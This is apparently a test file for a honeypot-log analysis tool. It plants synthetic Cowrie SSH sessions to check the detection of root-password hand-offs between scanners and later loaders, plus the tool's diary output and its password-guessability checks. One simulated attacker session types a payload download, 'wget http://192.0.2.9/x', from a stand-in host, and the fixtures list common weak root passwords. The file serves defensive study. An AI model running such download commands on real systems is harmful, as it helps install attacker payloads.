// Hand-offs are found where they were planted, and nowhere else: popular pairs, fellow guessers and parts of one botnet are none.
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { importPaths } from '../../observatory/import.ts';
import { openStore } from '../../observatory/open.ts';
import { DAY } from '../day.ts';
import { writeDiary } from '../diary.ts';
import { loadKnowledge } from '../knowledge.ts';
import { guessableBy } from './guessable.ts';
import { handOffsIn, handOffsOf } from './handoff.ts';

const knowledge = loadKnowledge();
const guessable = guessableBy(knowledge);
const START = Date.UTC(2026, 4, 1);
const lines: string[] = [];
let serial = 0;

interface Visit {
  /** Seconds of the day. */
  at: number;
  address: string;
  fails?: string[];
  gets?: string;
  types?: string[];
  decoy?: Record<string, unknown>;
}

function visit({ at, address, fails = [], gets, types = [], decoy }: Visit): void {
  const session = (++serial).toString(16).padStart(12, '0');
  let ms = START + at * 1000;
  const event = (eventid: string, fields: Record<string, unknown> = {}) =>
    lines.push(
      JSON.stringify({
        eventid,
        session,
        sensor: 'trap',
        src_ip: address,
        timestamp: new Date((ms += 500)).toISOString(),
        message: eventid,
        ...fields,
      }),
    );
  event('cowrie.session.connect', { src_port: 1, dst_port: 22, dst_ip: '203.0.113.9', protocol: 'ssh' });
  for (const password of fails) event('cowrie.login.failed', { username: 'root', password });
  if (gets !== undefined) event('cowrie.login.success', { username: 'root', password: gets });
  if (decoy) event('kansatsuki.login.decoy', { username: 'root', password: gets, given_at: '', ...decoy });
  for (const input of types) event('cowrie.command.input', { input });
  event('cowrie.session.closed', { duration: 1 });
}

const WRONG = ['1', '12', '123', '1234', '12345'];
const RARE = 'Kettle-93-orchid';
// Planted: a scanner, and its loader an hour later.
visit({ at: 100, address: '192.0.2.1', fails: WRONG, gets: RARE });
visit({ at: 3_700, address: '198.51.100.1', gets: RARE, types: ['wget http://192.0.2.9/x'] });
// A pair out of every list.
visit({ at: 200, address: '192.0.2.2', fails: WRONG, gets: 'P@ssw0rd2026' });
visit({ at: 4_000, address: '198.51.100.2', gets: 'P@ssw0rd2026', types: ['id'] });
// One who came upon it among his own guesses.
visit({ at: 300, address: '192.0.2.3', fails: WRONG, gets: 'lantern-Quartz-7' });
visit({ at: 4_100, address: '198.51.100.3', fails: ['a'], gets: 'lantern-Quartz-7', types: ['id'] });
// One that many know.
for (let i = 0; i < 8; i++)
  visit({ at: 400 + i * 100, address: `192.0.2.${10 + i}`, fails: WRONG, gets: 'velvet-Anchor-5' });
visit({ at: 4_200, address: '198.51.100.4', gets: 'velvet-Anchor-5', types: ['id'] });
// Parts of one botnet, at the same time.
visit({ at: 500, address: '192.0.2.5', fails: WRONG, gets: 'saffron-Pylon-8' });
visit({ at: 510, address: '198.51.100.5', gets: 'saffron-Pylon-8', types: ['id'] });
// Nobody had guessed it.
visit({ at: 600, address: '192.0.2.6', gets: 'cobalt-Meadow-2' });
visit({ at: 4_300, address: '198.51.100.6', gets: 'cobalt-Meadow-2', types: ['id'] });
// A decoy: certain, whatever the pair.
visit({ at: 700, address: '192.0.2.7', fails: WRONG, gets: 'zz7', decoy: { how: 'given' } });
visit({ at: 4_400, address: '198.51.100.7', gets: 'zz7', decoy: { how: 'handed', given_to: '192.0.2.7' } });
// Noise.
for (let i = 0; i < 200; i++) visit({ at: 10_000 + i * 60, address: `203.0.113.${i}`, fails: WRONG });

const folder = mkdtempSync(join(tmpdir(), 'handoff-'));
after(() => rmSync(folder, { recursive: true }));
writeFileSync(join(folder, 'cowrie.json'), `${lines.join('\n')}\n`);
const store = openStore(':memory:');
await importPaths(store, [join(folder, 'cowrie.json')], {});
const range = { from: START, to: START + DAY };

test('the planted hand-offs and no others', () => {
  assert.deepEqual(
    handOffsIn(store, range, guessable).map(({ scanner, receiver, password, sure, guesses, others }) => [
      scanner,
      receiver,
      password,
      sure,
      guesses,
      others,
    ]),
    [
      ['192.0.2.1', '198.51.100.1', RARE, 'likely', 5, 0],
      ['192.0.2.7', '198.51.100.7', 'zz7', 'certain', 5, 0],
    ],
  );
});

test('of both addresses, on their own pages', () => {
  for (const address of ['192.0.2.1', '198.51.100.1'])
    assert.deepEqual(
      handOffsOf(store, address, guessable).map(({ scanner, receiver, sure }) => [scanner, receiver, sure]),
      [['192.0.2.1', '198.51.100.1', 'likely']],
    );
  assert.deepEqual(handOffsOf(store, '203.0.113.5', guessable), []);
  assert.deepEqual(handOffsOf(store, 'never came', guessable), []);
});

test('the diary tells both, in both languages, addresses masked', () => {
  for (const [lang, likely, certain] of [
    [
      'en',
      /which `○○○\.○○○\.○○○\.○○○` had found 60 minutes before after 5 guesses in vain\. Nobody else ever tried/,
      /handed on/,
    ],
    ['ja', /5通りの失敗の末に見つけた`root\/Kettle-93-orchid`で、60分後に/, /渡されたことは確か/],
  ] as const) {
    const { text, claims } = writeDiary(store, {
      date: '2026-05-01',
      lang,
      format: 'md',
      now: START + 2 * DAY,
      config: { diary: { mask: 'circles', style: 'dearu' } },
      knowledge,
    });
    assert.match(text, likely);
    assert.match(text, certain);
    assert.equal(claims.filter(({ kind }) => kind === 'hand-off').length, 2);
  }
});

test('what strangers come upon by themselves', () => {
  for (const password of [
    '123456789',
    'password1!',
    'P@ssw0rd2026',
    'Qwerty!234567',
    '1qaz2wsx#EDC',
    'root2026!!',
    'Admin@12345',
    'aaaaaaaaaa',
    'short1!',
    '20260501',
    'raspberryraspberry993311',
    'raspberry2024',
  ])
    assert.ok(guessable('root', password), password);
  for (const password of [RARE, 'lantern-Quartz-7', 'xJ4#mLq0vT', '9Fu4eAV![L=&)qE='])
    assert.ok(!guessable('root', password), password);
});
